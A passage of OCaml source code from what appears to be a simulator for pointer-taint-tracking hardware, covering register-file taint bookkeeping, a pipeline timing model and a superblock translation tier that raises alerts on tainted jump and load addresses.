     path, so a plain fold is fine. *)
  let rec go acc m = if m = 0 then acc else go (acc + (m land 1)) (m lsr 1) in
  go 0 t.tmap

let tainted_registers t =
  List.filter (fun r -> Tword.is_tainted (get t r)) (List.init 32 Fun.id)

let slots = 34
let slot t i = if i = 0 then Tword.zero else Tword.of_bits t.regs.(i)

let slot_name i =
  if i = hi_idx then "hi" else if i = lo_idx then "lo" else Ptaint_isa.Reg.name i

(* {1 Superblock-translator storage hooks}

   The translated tier reads and writes the packed array directly (the
   clean variant never touches taint at all, so even the [lsr 32] of
   [write] would be waste there).  These accessors expose just enough
   raw structure for that, while keeping the bitmap invariant in the
   translator's hands: [mark] after a full write, [mark_clean] after a
   known-untainted write, nothing at all on the clean path (where
   [tmap] is 0 and every write keeps it 0). *)

let[@inline] storage t = t.regs

let[@inline] mark t i ~m =
  t.tmap <- t.tmap land lnot (1 lsl i) lor (((m + 15) lsr 4) lsl i)

let[@inline] mark_clean t i = t.tmap <- t.tmap land lnot (1 lsl i)

let[@inline] mark_clean2 t i j =
  t.tmap <- t.tmap land lnot ((1 lsl i) lor (1 lsl j))

(* Fault-injection entry points.  [inject_flip_value] touches only the
   value bits, so the taint nibble (and the live bitmap) cannot
   change; [inject_set_taint] goes through [write], which maintains
   the bitmap exactly.  Slot 0 absorbs injections silently — the
   hardwired zero register masks any fault landing on it. *)

let inject_flip_value t r ~bit =
  if r > 0 && r < slots then begin
    let old = Array.unsafe_get t.regs r in
    Array.unsafe_set t.regs r (old lxor (1 lsl (bit land 31)))
  end

let inject_set_taint t r ~tainted =
  if r > 0 && r < slots then begin
    let old = Array.unsafe_get t.regs r in
    write t r (if tainted then old lor (0xF lsl 32) else old land 0xFFFFFFFF)
  end

let reset t =
  Array.fill t.regs 0 34 (Tword.to_bits Tword.zero);
  t.tmap <- 0

let pp ppf t =
  for r = 0 to 31 do
    if not (Tword.equal (get t r) Tword.zero) then
      Format.fprintf ppf "%a=%a@ " Ptaint_isa.Reg.pp_sym r Tword.pp (get t r)
  done
