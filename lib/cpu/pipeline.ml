open Ptaint_isa

type stats = {
  mutable cycles : int;
  mutable instructions : int;
  mutable load_use_stalls : int;
  mutable control_flushes : int;
  mutable taint_gate_ops : int;
  mutable detector_checks : int;
}

type t = {
  machine : Machine.t;
  ihier : Ptaint_mem.Cache.Hierarchy.t;
  dhier : Ptaint_mem.Cache.Hierarchy.t;
  st : stats;
  mutable last_load_target : Reg.t option;
  pipeline_depth : int;
}

let create ?(memory_latency = 60) machine =
  { machine;
    ihier = Ptaint_mem.Cache.Hierarchy.create ~memory_latency ();
    dhier = Ptaint_mem.Cache.Hierarchy.create ~memory_latency ();
    st =
      { cycles = 0; instructions = 0; load_use_stalls = 0; control_flushes = 0;
        taint_gate_ops = 0; detector_checks = 0 };
    last_load_target = None;
    pipeline_depth = 5 }

(* Taint hardware activity per instruction: one OR-gate pass per ALU
   result byte, one 4-bit wire copy per load/store, one 4-input OR
   (detector) per memory access or register jump. *)
let taint_ops insn =
  match (insn : Insn.t) with
  | R _ | I _ | Shift _ | Muldiv _ -> 4
  | Load _ | Store _ -> 4 + 1
  | Jr _ | Jalr _ -> 1
  | _ -> 0

let step t =
  let pc = t.machine.Machine.pc in
  let insn = Machine.fetch t.machine pc in
  (* Effective address must be sampled before execution: a load such
     as [lw $3,0($3)] overwrites its own base register. *)
  let mem_addr =
    match insn with
    | Some (Load (_, _, off, b) | Store (_, _, off, b)) ->
      Some (Word.add (Regfile.value t.machine.Machine.regs b) (Word.of_signed off))
    | Some _ | None -> None
  in
  let mem_width =
    match insn with
    | Some (Load ((LB | LBU), _, _, _) | Store (SB, _, _, _)) -> 1
    | Some (Load ((LH | LHU), _, _, _) | Store (SH, _, _, _)) -> 2
    | _ -> 4
  in
  let before = pc in
  let result = Machine.step t.machine in
  (match insn with
   | None -> ()
   | Some insn ->
     let st = t.st in
     st.instructions <- st.instructions + 1;
     let fetch_lat =
       Ptaint_mem.Cache.Hierarchy.access t.ihier ~addr:pc ~write:false ~tainted:false
     in
     st.cycles <- st.cycles + fetch_lat;
     st.taint_gate_ops <- st.taint_gate_ops + taint_ops insn;
     (match insn with
      | Load _ | Store _ | Jr _ | Jalr _ -> st.detector_checks <- st.detector_checks + 1
      | _ -> ());
     (* Load-use hazard: the previous instruction loaded a register we
        read in EX this cycle. *)
     (match t.last_load_target with
      | Some r when List.mem r (Insn.reads insn) ->
        st.cycles <- st.cycles + 1;
        st.load_use_stalls <- st.load_use_stalls + 1
      | Some _ | None -> ());
     t.last_load_target <-
       (match insn with Load (_, rt, _, _) -> Some rt | _ -> None);
     (match (mem_addr, result) with
      | Some addr, Machine.Normal ->
        let write = match insn with Store _ -> true | _ -> false in
        (* The line's tag summary mirrors the tagged store's taint
           plane for the bytes this access touched. *)
        let tainted =
          Ptaint_mem.Memory.taint_summary t.machine.Machine.mem addr mem_width
        in
        let lat = Ptaint_mem.Cache.Hierarchy.access t.dhier ~addr ~write ~tainted in
        st.cycles <- st.cycles + (lat - 1)
      | _ -> ());
     (match result with
      | Machine.Normal when t.machine.Machine.pc <> before + 4 && Insn.is_control insn ->
        st.cycles <- st.cycles + 2;
        st.control_flushes <- st.control_flushes + 1
      | Machine.Alert _ ->
        (* The malicious instruction travels to retirement before the
           security exception fires. *)
        st.cycles <- st.cycles + t.pipeline_depth
      | _ -> ()));
  result

let stats t = t.st
let cpi t = if t.st.instructions = 0 then 0. else float_of_int t.st.cycles /. float_of_int t.st.instructions
let icache t = Ptaint_mem.Cache.Hierarchy.l1 t.ihier
let dcache t = Ptaint_mem.Cache.Hierarchy.l1 t.dhier
