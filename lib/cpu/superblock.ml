open Ptaint_taint
open Ptaint_isa
module M = Ptaint_mem.Memory
module TS = Ptaint_mem.Tagged_store

(* Superblock translation tier: hot basic blocks are compiled — at
   promotion time, from the pre-decoded {!Block.t} flat arrays — into
   one OCaml closure chain per block, with two specialized variants:

   - a {e clean} variant, sound only while both live-taint counters
     ({!Regfile.is_clean}, {!TS.tainted_bytes}) are zero, that elides
     every mask computation, taint load/store and policy check;
   - a {e full} variant with the policy constants baked into the
     closures at translate time, replacing the interpreter's
     per-opcode dispatch and per-operand [Tword] packing with
     straight-line packed-int arithmetic.

   Superblocks chain: a terminator tail-calls its successor superblock
   through a patchable slot, so straight-line guest code (loops
   included) never returns to the dispatcher.  Every call along the
   chain is an OCaml tail call, which is what makes the scheme sound:
   an event site simply writes its description into the {!env} fields
   and returns, and — the stack being flat — control lands straight
   back in {!Machine.run}'s driver.  Only {!TS.Unmapped} exits by
   exception, and each memory closure parks its block-relative index
   in [e_rel] first so the driver can attribute the fault.

   Fuel is hoisted to one check per superblock: a block whose full
   length does not fit in the remaining fuel refuses to run (event
   {!ev_fuel}), and the driver falls back to the interpreter for the
   partial block — [Sim.run_until] and fault-injection slicing land on
   exact icounts.  Taint-state transitions are handled by re-selecting
   the variant at every block entry (that per-entry test {e is} the
   invalidation rule: a chain never commits to a stale variant), with
   transitions inside a chain counted as deopts. *)

type env = {
  e_rf : Regfile.t;
  e_regs : int array;  (* Regfile.storage e_rf *)
  e_ts : TS.t;
  e_st : M.stats;
  mutable e_fuel : int;
  mutable e_guards : (int * int) list;
  mutable e_has_guards : bool;
  mutable e_ev : int;
  mutable e_rel : int;
  mutable e_a : int;
  mutable e_b : int;
  mutable e_next_pc : int;
  mutable e_cur : int;
  mutable e_blocks : int;
  mutable e_cleans : int;
  mutable e_deopts : int;
  mutable e_mode : int;  (* -1 unknown, 0 clean, 1 full *)
}

type sb = {
  sb_pc : int;
  sb_idx : int;
  sb_len : int;
  sb_go : env -> unit;
  sb_slots : slots;
}

(* Direct-threaded successor links: a slot holds the code to run for
   that edge.  It starts as a translate-time "miss" thunk that probes
   the tier table and, once the successor is translated, overwrites
   the slot with the successor's entry closure — after which crossing
   the edge is one field load and a tail call, with no translated?
   test at all.  [s_jr] keeps the superblock record (not just code)
   because the monomorphic jr cache must validate the target pc. *)
and slots = {
  mutable s_taken : env -> unit;
  mutable s_fall : env -> unit;
  mutable s_jr : sb;
}

(* The dummy is the "untranslated" sentinel everywhere: it fills fresh
   tier tables.  Its pc of -1 can never equal a jump target, so the jr
   monomorphic cache needs no separate validity flag. *)
let rec dummy =
  { sb_pc = -1; sb_idx = -1; sb_len = 0; sb_go = (fun _ -> ()); sb_slots = dummy_slots }

and dummy_slots = { s_taken = (fun _ -> ()); s_fall = (fun _ -> ()); s_jr = dummy }

type tier = {
  t_blocks : Block.t;
  t_policy : Policy.t;
  t_sbs : sb array;
}

(* Exit protocol: [sb_go] returns with [e_ev] holding one of these.
   [ev_none] is a chain miss — the successor is not translated (yet)
   and [e_next_pc] says where execution continues.  Mid-body events
   carry the faulting instruction's block-relative index in [e_rel]
   so the driver can repay unexecuted fuel and park the pc. *)
let ev_none = 0
let ev_fuel = 1
let ev_syscall = 2
let ev_break = 3
let ev_jump_alert = 4
let ev_load_alert = 5
let ev_store_alert = 6
let ev_guard_alert = 7
let ev_misalign = 8
let ev_unmapped = 9  (* set by the driver when TS.Unmapped escapes *)

(* Promotion threshold: dispatches of an entry index before it is
   translated.  Low enough that the differential tests' warm loops
   promote, high enough that one-shot startup code never pays for
   translation. *)
let threshold = 16

let make_env ~rf ~ts ~st =
  { e_rf = rf; e_regs = Regfile.storage rf; e_ts = ts; e_st = st; e_fuel = 0;
    e_guards = []; e_has_guards = false; e_ev = 0; e_rel = 0; e_a = 0; e_b = 0;
    e_next_pc = 0; e_cur = 0; e_blocks = 0; e_cleans = 0; e_deopts = 0; e_mode = -1 }

let create_tier blocks policy =
  { t_blocks = blocks; t_policy = policy;
    t_sbs = Array.make (max blocks.Block.n 1) dummy }

let rec guarded ranges ea w =
  match ranges with
  | [] -> false
  | (lo, len) :: tl -> (ea < lo + len && ea + w > lo) || guarded tl ea w

let m32 = 0xFFFFFFFF
let tag_bits = 0xF lsl 32

type code = env -> unit

(* Translate the block entered at [idx] (which must have a terminator:
   [stops.(idx) < n]) and publish it in the tier table.  Publication
   is a plain pointer store: every [sb] field except the successor
   slots is immutable, so racy cross-domain publication is safe under
   the OCaml memory model, and a stale read simply re-translates or
   misses a chain link — both benign. *)
let translate tier idx =
  let d = tier.t_blocks and pol = tier.t_policy in
  let base = d.Block.base and n = d.Block.n in
  let ops = d.Block.ops and fa = d.Block.fa and fb = d.Block.fb and fc = d.Block.fc in
  let sbs = tier.t_sbs in
  let track = pol.Policy.track in
  let cmp = track && pol.Policy.compare_untaints in
  let dd = Policy.detects_data_pointers pol && track in
  let dd_guard = Policy.detects_data_pointers pol in
  let dc = Policy.detects_control pol && track in
  let and_zero = pol.Policy.and_zero_untaints in
  let or_ones = pol.Policy.or_ones_untaints in
  let xor_idiom = pol.Policy.xor_idiom_untaints in
  let term = Array.unsafe_get d.Block.stops idx in
  let len = term - idx + 1 in
  let spc = base + (idx lsl 2) in
  let next = base + (term lsl 2) + 4 in
  let slots = { s_taken = (fun _ -> ()); s_fall = (fun _ -> ()); s_jr = dummy } in
  (* Batched access stats: the body's load/store counts are block
     constants, flushed once when the terminator is reached.  On a
     mid-body event the driver reconstructs the executed prefix from
     the opcode array instead. *)
  let nl = ref 0 and ns = ref 0 in
  for q = idx to term - 1 do
    match Array.unsafe_get ops q with
    | Block.Olb | Block.Olbu | Block.Olh | Block.Olhu | Block.Olw -> incr nl
    | Block.Osb | Block.Osh | Block.Osw -> incr ns
    | _ -> ()
  done;
  let nl = !nl and ns = !ns in
  (* Successor arms.  The taken/fallthrough slots are lazily
     self-patching miss thunks: the first execution that finds the
     successor translated replaces the slot with the successor's
     entry closure; until then each crossing does one table probe.  A
     chain miss ([ev_none]) hands the pc back to the driver, whose
     interpreting arm also bumps the successor's hotness counter — so
     misses are what eventually extend chains. *)
  let mk_taken target : code =
    let ti = Block.index_of ~base ~len:n target in
    if ti < 0 then
      fun env ->
        env.e_ev <- ev_none;
        env.e_next_pc <- target
    else
      fun env ->
        let s = Array.unsafe_get sbs ti in
        if s != dummy then begin
          slots.s_taken <- s.sb_go;
          s.sb_go env
        end
        else begin
          env.e_ev <- ev_none;
          env.e_next_pc <- target
        end
  in
  let mk_fall () : code =
    let ti = Block.index_of ~base ~len:n next in
    if ti < 0 then
      fun env ->
        env.e_ev <- ev_none;
        env.e_next_pc <- next
    else
      fun env ->
        let s = Array.unsafe_get sbs ti in
        if s != dummy then begin
          slots.s_fall <- s.sb_go;
          s.sb_go env
        end
        else begin
          env.e_ev <- ev_none;
          env.e_next_pc <- next
        end
  in
  (* Register-indirect jumps get a monomorphic inline cache validated
     by target pc; on miss, one pc→index lookup plus a table probe. *)
  let jr_go env target =
    let s = slots.s_jr in
    if s.sb_pc = target then s.sb_go env
    else begin
      let ti = Block.index_of ~base ~len:n target in
      if ti >= 0 then begin
        let s = Array.unsafe_get sbs ti in
        if s != dummy then begin
          slots.s_jr <- s;
          s.sb_go env
        end
        else begin
          env.e_ev <- ev_none;
          env.e_next_pc <- target
        end
      end
      else begin
        env.e_ev <- ev_none;
        env.e_next_pc <- target
      end
    end
  in
  (* Seed the direct-threaded slots for the edges this terminator
     has.  Both variants share them: the slot holds the successor's
     [sb_go], which re-selects its own variant at entry. *)
  (match Array.unsafe_get ops term with
   | Block.Obeq | Block.Obne | Block.Oblez | Block.Obgtz | Block.Obltz | Block.Obgez ->
     slots.s_taken <- mk_taken (next + Array.unsafe_get fc term);
     slots.s_fall <- mk_fall ()
   | Block.Oj | Block.Ojal -> slots.s_taken <- mk_taken (Array.unsafe_get fa term)
   | _ -> ());
  (* --- terminators ---

     [clean:true] builds the clean variant's terminator: compare
     untaints are no-ops there and indirect-jump alerts cannot fire
     without live taint, exactly as in the interpreter's shared
     [exec_term].  Alert arms consume the whole block (the entry
     already flushed the batched stats) and record the
     terminator-relative index. *)
  let mk_term ~clean : code =
    match Array.unsafe_get ops term with
    | Block.Obeq | Block.Obne ->
      let rs = Array.unsafe_get fa term and rt = Array.unsafe_get fb term in
      let eq = Array.unsafe_get ops term = Block.Obeq in
      if clean then
        fun env ->
          let regs = env.e_regs in
          if (Array.unsafe_get regs rs = Array.unsafe_get regs rt) = eq
          then slots.s_taken env
          else slots.s_fall env
      else if cmp then
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs and b = Array.unsafe_get regs rt in
          if (a lor b) land tag_bits = 0 then
            (* both operands already clean: the untaints are identity *)
            if (a = b) = eq then slots.s_taken env else slots.s_fall env
          else begin
            let av = a land m32 and bv = b land m32 in
            Array.unsafe_set regs rs av;
            Array.unsafe_set regs rt bv;
            Regfile.mark_clean2 env.e_rf rs rt;
            if (av = bv) = eq then slots.s_taken env else slots.s_fall env
          end
      else
        fun env ->
          let regs = env.e_regs in
          if (Array.unsafe_get regs rs land m32 = Array.unsafe_get regs rt land m32) = eq
          then slots.s_taken env
          else slots.s_fall env
    | Block.Oblez | Block.Obgtz | Block.Obltz | Block.Obgez ->
      let rs = Array.unsafe_get fa term in
      let op = Array.unsafe_get ops term in
      let cond a =
        match op with
        | Block.Oblez -> a <= 0
        | Block.Obgtz -> a > 0
        | Block.Obltz -> a < 0
        | _ -> a >= 0
      in
      if clean then
        fun env ->
          if cond (Word.to_signed (Array.unsafe_get env.e_regs rs))
          then slots.s_taken env
          else slots.s_fall env
      else if cmp then
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs in
          if a land tag_bits = 0 then
            if cond (Word.to_signed a) then slots.s_taken env else slots.s_fall env
          else begin
            let av = a land m32 in
            Array.unsafe_set regs rs av;
            Regfile.mark_clean env.e_rf rs;
            if cond (Word.to_signed av) then slots.s_taken env else slots.s_fall env
          end
      else
        fun env ->
          if cond (Word.to_signed (Array.unsafe_get env.e_regs rs land m32))
          then slots.s_taken env
          else slots.s_fall env
    | Block.Oj ->
      fun env -> slots.s_taken env
    | Block.Ojal ->
      if clean then
        fun env ->
          Array.unsafe_set env.e_regs 31 next;
          slots.s_taken env
      else
        fun env ->
          Array.unsafe_set env.e_regs 31 next;
          Regfile.mark_clean env.e_rf 31;
          slots.s_taken env
    | Block.Ojr ->
      let rs = Array.unsafe_get fa term in
      if clean then
        fun env -> jr_go env (Array.unsafe_get env.e_regs rs)
      else if dc then
        fun env ->
          let a = Array.unsafe_get env.e_regs rs in
          if a land tag_bits <> 0 then begin
            env.e_ev <- ev_jump_alert;
            env.e_a <- rs;
            env.e_rel <- len - 1
          end
          else jr_go env (a land m32)
      else
        fun env -> jr_go env (Array.unsafe_get env.e_regs rs land m32)
    | Block.Ojalr ->
      let rd = Array.unsafe_get fa term and rs = Array.unsafe_get fb term in
      let rd_nz = rd <> 0 in
      if clean then
        fun env ->
          let regs = env.e_regs in
          (* read the target before the link write: rd may equal rs *)
          let target = Array.unsafe_get regs rs in
          if rd_nz then Array.unsafe_set regs rd next;
          jr_go env target
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs in
          if dc && a land tag_bits <> 0 then begin
            (* no link-register write on an alert, like [step_core] *)
            env.e_ev <- ev_jump_alert;
            env.e_a <- rs;
            env.e_rel <- len - 1
          end
          else begin
            if rd_nz then begin
              Array.unsafe_set regs rd next;
              Regfile.mark_clean env.e_rf rd
            end;
            jr_go env (a land m32)
          end
    | Block.Osyscall ->
      fun env ->
        env.e_ev <- ev_syscall;
        env.e_next_pc <- next
    | Block.Obreak ->
      let code = Array.unsafe_get fa term in
      fun env ->
        env.e_ev <- ev_break;
        env.e_a <- code;
        env.e_next_pc <- next
    | _ -> assert false
  in
  (* --- full-variant straight-line instructions ---

     Policy constants are baked at translate time; the common
     clean-operand case of the hot ALU opcodes takes a branch that
     skips the mask algebra entirely.  Event sites write the env
     fields and return without calling [nx] — the flat (all-tail-call)
     stack takes control straight back to the driver. *)
  let mk_full i (nx : code) : code =
    let rel = i - idx in
    let f1 = Array.unsafe_get fa i
    and f2 = Array.unsafe_get fb i
    and f3 = Array.unsafe_get fc i in
    match Array.unsafe_get ops i with
    | Block.Onop -> nx
    | Block.Oadd | Block.Osub ->
      let rd = f1 and rs = f2 and rt = f3 in
      let add = Array.unsafe_get ops i = Block.Oadd in
      if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs rs land m32
          and bv = Array.unsafe_get regs rt land m32 in
          Array.unsafe_set regs rd ((if add then av + bv else av - bv) land m32);
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs and b = Array.unsafe_get regs rt in
          if (a lor b) land tag_bits = 0 then begin
            Array.unsafe_set regs rd ((if add then a + b else a - b) land m32);
            Regfile.mark_clean env.e_rf rd
          end
          else begin
            let m = (a lsr 32) lor (b lsr 32) in
            let v = (if add then (a land m32) + (b land m32) else (a land m32) - (b land m32)) land m32 in
            Array.unsafe_set regs rd (v lor (m lsl 32));
            Regfile.mark env.e_rf rd ~m
          end;
          nx env
    | Block.Oand | Block.Oor ->
      let rd = f1 and rs = f2 and rt = f3 in
      let is_and = Array.unsafe_get ops i = Block.Oand in
      if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs rs land m32
          and bv = Array.unsafe_get regs rt land m32 in
          Array.unsafe_set regs rd (if is_and then av land bv else av lor bv);
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs and b = Array.unsafe_get regs rt in
          if (a lor b) land tag_bits = 0 then begin
            Array.unsafe_set regs rd (if is_and then a land b else a lor b);
            Regfile.mark_clean env.e_rf rd
          end
          else begin
            let av = a land m32 and bv = b land m32 in
            let ma = a lsr 32 and mb = b lsr 32 in
            let m =
              if is_and then
                if and_zero then Prop.and_bytes ~v1:av ~m1:ma ~v2:bv ~m2:mb
                else ma lor mb
              else if or_ones then Prop.or_bytes ~v1:av ~m1:ma ~v2:bv ~m2:mb
              else ma lor mb
            in
            Array.unsafe_set regs rd
              ((if is_and then av land bv else av lor bv) lor (m lsl 32));
            Regfile.mark env.e_rf rd ~m
          end;
          nx env
    | Block.Oxor ->
      let rd = f1 and rs = f2 and rt = f3 in
      if rd = 0 then nx
      else if track && rs = rt && xor_idiom then
        fun env ->
          (* xor r,r: constant untainted zero under the idiom rule *)
          Array.unsafe_set env.e_regs rd 0;
          Regfile.mark_clean env.e_rf rd;
          nx env
      else if not track then
        fun env ->
          let regs = env.e_regs in
          let v =
            (Array.unsafe_get regs rs lxor Array.unsafe_get regs rt) land m32
          in
          Array.unsafe_set regs rd v;
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs and b = Array.unsafe_get regs rt in
          if (a lor b) land tag_bits = 0 then begin
            Array.unsafe_set regs rd (a lxor b);
            Regfile.mark_clean env.e_rf rd
          end
          else begin
            let m = (a lsr 32) lor (b lsr 32) in
            Array.unsafe_set regs rd (((a lxor b) land m32) lor (m lsl 32));
            Regfile.mark env.e_rf rd ~m
          end;
          nx env
    | Block.Onor ->
      let rd = f1 and rs = f2 and rt = f3 in
      if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          let v =
            lnot (Array.unsafe_get regs rs lor Array.unsafe_get regs rt) land m32
          in
          Array.unsafe_set regs rd v;
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs and b = Array.unsafe_get regs rt in
          let v = lnot (a lor b) land m32 in
          if (a lor b) land tag_bits = 0 then begin
            Array.unsafe_set regs rd v;
            Regfile.mark_clean env.e_rf rd
          end
          else begin
            let m = (a lsr 32) lor (b lsr 32) in
            Array.unsafe_set regs rd (v lor (m lsl 32));
            Regfile.mark env.e_rf rd ~m
          end;
          nx env
    | Block.Oslt | Block.Osltu ->
      let rd = f1 and rs = f2 and rt = f3 in
      let signed = Array.unsafe_get ops i = Block.Oslt in
      if cmp then
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs rs land m32
          and bv = Array.unsafe_get regs rt land m32 in
          let v =
            if (if signed then Word.lt_signed av bv else av < bv) then 1 else 0
          in
          (* compare-untaints rule: both operands lose their taint,
             branchlessly (slot 0 rewrites as 0, bit 0 stays clear) *)
          Array.unsafe_set regs rs av;
          Array.unsafe_set regs rt bv;
          Regfile.mark_clean2 env.e_rf rs rt;
          if rd <> 0 then begin
            Array.unsafe_set regs rd v;
            Regfile.mark_clean env.e_rf rd
          end;
          nx env
      else if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs rs land m32
          and bv = Array.unsafe_get regs rt land m32 in
          Array.unsafe_set regs rd
            (if (if signed then Word.lt_signed av bv else av < bv) then 1 else 0);
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs and b = Array.unsafe_get regs rt in
          let av = a land m32 and bv = b land m32 in
          let v =
            if (if signed then Word.lt_signed av bv else av < bv) then 1 else 0
          in
          let m = (a lsr 32) lor (b lsr 32) in
          Array.unsafe_set regs rd (v lor (m lsl 32));
          Regfile.mark env.e_rf rd ~m;
          nx env
    | Block.Osllv | Block.Osrlv | Block.Osrav ->
      let rd = f1 and rs = f2 and rt = f3 in
      let op = Array.unsafe_get ops i in
      let shv av n =
        match op with
        | Block.Osllv -> Word.sll av n
        | Block.Osrlv -> Word.srl av n
        | _ -> Word.sra av n
      in
      let dir = if op = Block.Osllv then Prop.Left else Prop.Right in
      if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs rs land m32
          and bv = Array.unsafe_get regs rt land m32 in
          Array.unsafe_set regs rd (shv av (bv land 31));
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs and b = Array.unsafe_get regs rt in
          let av = a land m32 and bv = b land m32 in
          let v = shv av (bv land 31) in
          if (a lor b) land tag_bits = 0 then begin
            Array.unsafe_set regs rd v;
            Regfile.mark_clean env.e_rf rd
          end
          else begin
            let m = Prop.shift dir ~amount:bv ~amount_mask:(b lsr 32) (a lsr 32) in
            Array.unsafe_set regs rd (v lor (m lsl 32));
            Regfile.mark env.e_rf rd ~m
          end;
          nx env
    | Block.Oaddi ->
      let rd = f1 and rs = f2 and imm = f3 in
      if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs rd ((Array.unsafe_get regs rs land m32) + imm land m32);
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs in
          if a land tag_bits = 0 then begin
            Array.unsafe_set regs rd ((a + imm) land m32);
            Regfile.mark_clean env.e_rf rd
          end
          else begin
            let m = a lsr 32 in
            Array.unsafe_set regs rd ((((a land m32) + imm) land m32) lor (m lsl 32));
            Regfile.mark env.e_rf rd ~m
          end;
          nx env
    | Block.Oandi ->
      let rd = f1 and rs = f2 and imm = f3 in
      if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          Array.unsafe_set regs rd (Array.unsafe_get regs rs land imm);
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs in
          if a land tag_bits = 0 then begin
            Array.unsafe_set regs rd (a land imm);
            Regfile.mark_clean env.e_rf rd
          end
          else begin
            let m =
              if and_zero then
                Prop.and_bytes ~v1:(a land m32) ~m1:(a lsr 32) ~v2:imm ~m2:0
              else a lsr 32
            in
            Array.unsafe_set regs rd ((a land imm land m32) lor (m lsl 32));
            Regfile.mark env.e_rf rd ~m
          end;
          nx env
    | Block.Oori | Block.Oxori ->
      let rd = f1 and rs = f2 and imm = f3 in
      let is_or = Array.unsafe_get ops i = Block.Oori in
      if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs rs land m32 in
          Array.unsafe_set regs rd (if is_or then av lor imm else av lxor imm);
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        (* imm < 2^16, so or/xor touch neither the tag nibble nor the
           upper value bytes: the packed result is one ALU op and the
           destination inherits the source's taint bit verbatim. *)
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs in
          Array.unsafe_set regs rd (if is_or then a lor imm else a lxor imm);
          Regfile.mark env.e_rf rd ~m:(a lsr 32);
          nx env
    | Block.Oslti | Block.Osltiu ->
      let rd = f1 and rs = f2 and imm = f3 in
      let signed = Array.unsafe_get ops i = Block.Oslti in
      if cmp then
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs rs land m32 in
          let v =
            if (if signed then Word.lt_signed av imm else av < imm) then 1 else 0
          in
          Array.unsafe_set regs rs av;
          Regfile.mark_clean env.e_rf rs;
          if rd <> 0 then begin
            Array.unsafe_set regs rd v;
            Regfile.mark_clean env.e_rf rd
          end;
          nx env
      else if rd = 0 then nx
      else if not track then
        fun env ->
          let regs = env.e_regs in
          let av = Array.unsafe_get regs rs land m32 in
          Array.unsafe_set regs rd
            (if (if signed then Word.lt_signed av imm else av < imm) then 1 else 0);
          Regfile.mark_clean env.e_rf rd;
          nx env
      else
        fun env ->
          let regs = env.e_regs in
          let a = Array.unsafe_get regs rs in
          let av = a land m32 in
          let v =
            if (if signed then Word.lt_signed av imm else av < imm) then 1 else 0
          in
          let m = a lsr 32 in
          Array.unsafe_set regs rd (v lor (m lsl 32));
          Regfile.mark env.e_rf rd ~m;
          nx env
    | Block.Osll | Block.Osrl | Block.Osra ->
      let rd = f1 and rs = f2 and sh = f3 in
      let op = Array.unsafe_get ops i in
      if rd = 0 then nx
      else begin
        let left = op = Block.Osll in
        (* constant-amount shift: the whole-byte move and the
           fractional-byte smear of [Prop.shift] collapse to two baked
           shift counts ([fbit] is 0 when the amount is a whole number
           of bytes, making the smear a no-op lor) *)
        let whole = (sh land 31) / 8 and fbit = if (sh land 31) mod 8 = 0 then 0 else 1 in
        let shv av =
          match op with
          | Block.Osll -> Word.sll av sh
          | Block.Osrl -> Word.srl av sh
          | _ -> Word.sra av sh
        in
        if not track then
          fun env ->
            let regs = env.e_regs in
            Array.unsafe_set regs rd (shv (Array.unsafe_get regs rs land m32));
            Regfile.mark_clean env.e_rf rd;
            nx env
        else
          fun env ->
            let regs = env.e_regs in
            let a = Array.unsafe_get regs rs in
            let v = shv (a land m32) in
            if a land tag_bits = 0 then begin
              Array.unsafe_set regs rd v;
              Regfile.mark_clean env.e_rf rd
            end
            else begin
              let ma = a lsr 32 in
              let mm = if left then ma lsl whole else ma lsr whole in
              let m = (mm lor (if left then mm lsl fbit else mm lsr fbit)) land 0xF in
              Array.unsafe_set regs rd (v lor (m lsl 32));
              Regfile.mark env.e_rf rd ~m
            end;
            nx env
      end
    | Block.Olui ->
      let rd = f1 and imm = f3 in
      if rd = 0 then nx
      else
        fun env ->
          Array.unsafe_set env.e_regs rd imm;
          Regfile.mark_clean env.e_rf rd;
          nx env
    | Block.Olw | Block.Olb | Block.Olbu | Block.Olh | Block.Olhu ->
      let rd = f1 and breg = f2 and off = f3 in
      (* [lw] gets its own closure (it is the hot one and its loaded
         element is already the packed register image); the narrower
         loads share a shape with the extraction baked in per opcode.
         The address-detector check is baked in ([dd] requires
         tracking); the tag test on the loaded element stays inline. *)
      (match Array.unsafe_get ops i with
       | Block.Olw ->
         fun env ->
           let regs = env.e_regs in
           let a = Array.unsafe_get regs breg in
           let ea = (a + off) land m32 in
           if dd && a land tag_bits <> 0 then begin
             env.e_ev <- ev_load_alert;
             env.e_rel <- rel;
